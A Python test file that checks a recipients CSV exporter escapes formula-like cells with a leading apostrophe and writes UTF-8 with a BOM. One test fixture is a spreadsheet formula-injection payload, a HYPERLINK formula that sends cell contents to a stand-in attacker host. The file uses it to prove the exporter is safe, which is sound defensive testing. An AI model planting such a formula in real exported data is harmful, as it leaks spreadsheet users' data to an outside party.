"""The recipients CSV opens safely and readably in a spreadsheet: a customer's name that looks
like a formula stays text, and non-ASCII names survive Excel on Windows (UTF-8 with a BOM)."""

from __future__ import annotations

import csv
from datetime import UTC, datetime
from pathlib import Path

from console.services.group_message_recipients import Outcome, RecipientRow
from console.ui.recipients_csv import write_recipients_csv


def row(name: str, email_error: str = "") -> RecipientRow:
    return RecipientRow(
        "c1", name, "conv1", datetime(2026, 5, 1, tzinfo=UTC), None, None, None,
        Outcome("failed" if email_error else "", email_error), Outcome(""),
    )


def test_cells_that_start_like_a_formula_are_written_as_text(tmp_path: Path) -> None:
    target = tmp_path / "r.csv"
    names = ['=HYPERLINK("http://evil.example/?"&A2,"Click")', "+1 555", "-2", "@SUM(A1)",
             "\tTab", "\rReturn", "Zoë Müller"]
    assert write_recipients_csv(target, [row(n, "+1 bounced") for n in names]) == len(names)
    raw = target.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    with target.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert [r["name"] for r in rows] == ["'" + n for n in names[:-1]] + ["Zoë Müller"]
    assert {r["email_error"] for r in rows} == {"'+1 bounced"}
    assert rows[0]["contact_id"] == "c1"
